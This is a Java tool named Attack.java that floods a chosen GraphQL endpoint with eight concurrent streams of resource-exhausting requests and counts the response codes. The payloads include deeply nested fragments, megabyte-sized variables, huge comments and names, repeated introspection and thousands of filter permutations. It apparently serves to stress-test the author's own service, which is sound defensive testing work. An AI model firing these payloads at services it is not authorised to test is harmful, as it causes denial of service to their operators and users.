import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.time.Duration;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.IntFunction;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/**
 * Requests that are small or legal, or both, and take much memory: while they are answered, or afterwards by what is
 * remembered of them. Eight callers send those of one kind at once. Says what became of them: {@code whole}, a status and a
 * code, or how a connection failed.
 *
 * <p>java Attack.java URL JOB KIND: JOB is the id of a job of 1,000 items.
 */
public final class Attack {

    private static final int CALLERS = 8;
    private static final Pattern CODE = Pattern.compile("\"code\":\"([A-Z_]+)\"");
    private static final HttpClient CLIENT =
            HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build();

    private final String job;
    private final URI uri;

    private Attack(String url, String job) {
        this.uri = URI.create(url);
        this.job = job;
    }

    /** A kind: how many requests, and the body of each. */
    private record Kind(int requests, IntFunction<String> body) {}

    private Map<String, Kind> kinds() {
        Map<String, Kind> kinds = new TreeMap<>();
        // Some 1,700 fields where the fragments are spread, 24 aliases, eight deep; a text for each.
        kinds.put("fragments", new Kind(400, i -> query("# " + i + "\n{ jobs(first: 1) { nodes { ...A } } }" + nested())));
        // The same for each of 20 operations of a document.
        kinds.put("operations", new Kind(800, i -> body(
                "# " + i / 20 + "\n" + repeat(20, n -> "query o" + n + " { jobs(first: 1) { nodes { ...A } } } ") + nested(),
                "\"operationName\":\"o" + i % 20 + "\"")));
        // A fragment of many fields at many places, and for each type of a list of nodes.
        kinds.put("wide", new Kind(400, i -> query("# " + i + "\n{ jobs(first: 1) { nodes { ...W "
                + repeat(30, n -> "w" + n + ": items { job { ...W } } ") + "} } " + repeat(10, n -> "n" + n + ": nodes(ids: [\"" + job
                + "\"]) { ...N } ") + "} fragment W on Job { " + repeat(50, n -> "a" + n + ": id ") + "} fragment N on Node { "
                + repeat(30, n -> "b" + n + ": id ") + "}")));
        // Fields that are merged in another way at each place.
        kinds.put("merged", new Kind(400, i -> query("# " + i + "\n{ jobs(first: 1) { nodes { ...A ...B ...C } } }"
                + repeat(3, n -> " fragment " + (char) ('A' + n) + " on Job { items { job { items { job { items { job { id "
                        + repeat(20, f -> "f" + n + "_" + f + ": id ") + "} } } } } } }"))));
        // Names of operations, each another.
        kinds.put("names", new Kind(3_000, i -> query("query o" + i + "_" + "n".repeat(i % 2 == 0 ? 100 : 50_000) + " { __typename }")));
        kinds.put("aliases", new Kind(400, i -> query("# " + i + "\n{ job(id: \"" + job + "\") { items { "
                + repeat(190, n -> "a" + n + ": stateSince ") + "} } }")));
        kinds.put("comments", new Kind(400, i -> query("{ __typename } # " + i + "語".repeat(240_000))));
        kinds.put("spaces", new Kind(400, i -> query("{ __typename } " + " ".repeat(200_000 + i))));
        kinds.put("literals", new Kind(400, i -> query("{ jobByReference(reference: \"" + i + "語".repeat(200_000) + "\") { id } }")));
        kinds.put("blocks", new Kind(400, i -> query("{ jobByReference(reference: \\\"\\\"\\\"" + i + "x".repeat(200_000)
                + "\\\"\\\"\\\") { id } }")));
        // As many tokens as there may be: a list that is refused when it is looked at, and what is not GraphQL in the end.
        kinds.put("lists", new Kind(200, i -> query("{ jobsByReference(references: [" + "\"" + i + "\" "
                + "\"r\" ".repeat(14_900) + "]) { id } }")));
        kinds.put("tokens", new Kind(200, i -> query("{ a" + i + " " + "a:a ".repeat(4_900) + "} }")));
        kinds.put("unknown", new Kind(200, i -> query("{ " + repeat(1_900, n -> "f" + i + "_" + n + " ") + "}")));
        kinds.put("overlapping", new Kind(200, i -> query("# " + i + "\n{ jobs { nodes { " + repeat(45, n -> "...F" + n % 3 + " ")
                + "} } }" + repeat(3, n -> " fragment F" + n + " on Job { " + repeat(40, f -> "id reference ") + "}"))));
        kinds.put("introspection", new Kind(200, i -> query("# " + i + "\n{ " + repeat(45, n -> "s" + n
                + ": __schema { types { name description fields { name description args { name description } type { name } } } } ")
                + "}")));
        // Variables of one mebibyte.
        kinds.put("text", new Kind(400, i -> variable("\"" + "v".repeat(1_000_000) + "\"")));
        kinds.put("values", new Kind(200, i -> variable("[" + "0,".repeat(510_000) + "0]")));
        kinds.put("objects", new Kind(200, i -> variable("[" + "{\"a\":0},".repeat(115_000) + "0]")));
        kinds.put("empties", new Kind(200, i -> variable("[" + "[[]],".repeat(200_000) + "0]")));
        kinds.put("members", new Kind(200, i -> variable("{" + repeat(85_000, n -> "\"" + n + "\":{},") + "\"z\":0}")));
        kinds.put("digits", new Kind(200, i -> variable("[" + ("9".repeat(900) + ",").repeat(1_100) + "0]")));
        // Statements that differ by the filter and the order: connections remember those that they have prepared.
        kinds.put("filters", new Kind(4_000, Attack::filtered));
        return kinds;
    }

    private static String nested() {
        return " fragment A on Job { " + eight("...B") + " } fragment B on Job { " + eight("...C") + " } fragment C on Job { "
                + eight("id") + " }";
    }

    private static String eight(String inner) {
        return repeat(8, n -> "a" + n + ": items { job { " + inner + " } } ");
    }

    private static String filtered(int i) {
        String[] filters = {
            "search: \"poster\"", "origin: API", "stages: [READY]", "waitingOn: SHOP", "anyItemIn: [IN_REVIEW]", "allItemsIn: [COMPLETE]",
            "referenceKinds: [ORDER]", "createdAt: {from: \"2026-01-01T00:00:00Z\"}", "updatedAt: {from: \"2026-01-01T00:00:00Z\"}",
            "references: [\"a\"]"
        };
        String filter = IntStream.range(0, filters.length)
                .filter(bit -> (i >> bit & 1) == 1)
                .mapToObj(bit -> filters[bit])
                .collect(Collectors.joining(", "));
        String[] fields = {"CREATED_AT", "UPDATED_AT", "REFERENCE", "LAST_TRANSITION_AT"};
        return query("{ jobs(first: 1, filter: {" + filter + "}, orderBy: {field: " + fields[i >> 10] + "}) { nodes { id } } }");
    }

    private static String repeat(int times, IntFunction<String> part) {
        return IntStream.range(0, times).mapToObj(part).collect(Collectors.joining());
    }

    private static String query(String document) {
        return body(document, "\"operationName\":null");
    }

    private static String body(String document, String more) {
        String escaped = document.contains("\\\"") ? document : document.replace("\"", "\\\"");
        return "{\"query\":\"" + escaped.replace("\n", "\\n") + "\"," + more + "}";
    }

    private static String variable(String value) {
        return body("{ __typename }", "\"variables\":{\"v\":" + value + "}");
    }

    public static void main(String[] arguments) throws InterruptedException {
        Attack attack = new Attack(arguments[0], arguments[1]);
        Kind kind = arguments.length < 3 ? null : attack.kinds().get(arguments[2]);
        if (kind == null) {
            System.out.println(String.join("\n", attack.kinds().keySet()));
            return;
        }
        Map<String, AtomicInteger> outcomes = new ConcurrentHashMap<>();
        ExecutorService callers = Executors.newFixedThreadPool(CALLERS);
        for (int i = 0; i < kind.requests; i++) {
            int number = i;
            callers.execute(() -> outcomes.computeIfAbsent(attack.outcome(kind.body.apply(number)), one -> new AtomicInteger())
                    .incrementAndGet());
        }
        callers.shutdown();
        callers.awaitTermination(1, TimeUnit.HOURS);
        new TreeMap<>(outcomes).forEach((outcome, times) -> System.out.println(times + " " + outcome));
    }

    private String outcome(String body) {
        try {
            HttpResponse<String> answer = CLIENT.send(
                    HttpRequest.newBuilder(uri)
                            .timeout(Duration.ofSeconds(30))
                            .header("Content-Type", "application/json")
                            .POST(HttpRequest.BodyPublishers.ofString(body))
                            .build(),
                    HttpResponse.BodyHandlers.ofString());
            Matcher code = CODE.matcher(answer.body());
            return answer.body().startsWith("{\"errors\"") && code.find() ? answer.statusCode() + " " + code.group(1) : "whole";
        } catch (IOException broken) {
            return broken.getClass().getSimpleName();
        } catch (InterruptedException ended) {
            throw new IllegalStateException(ended);
        }
    }
}
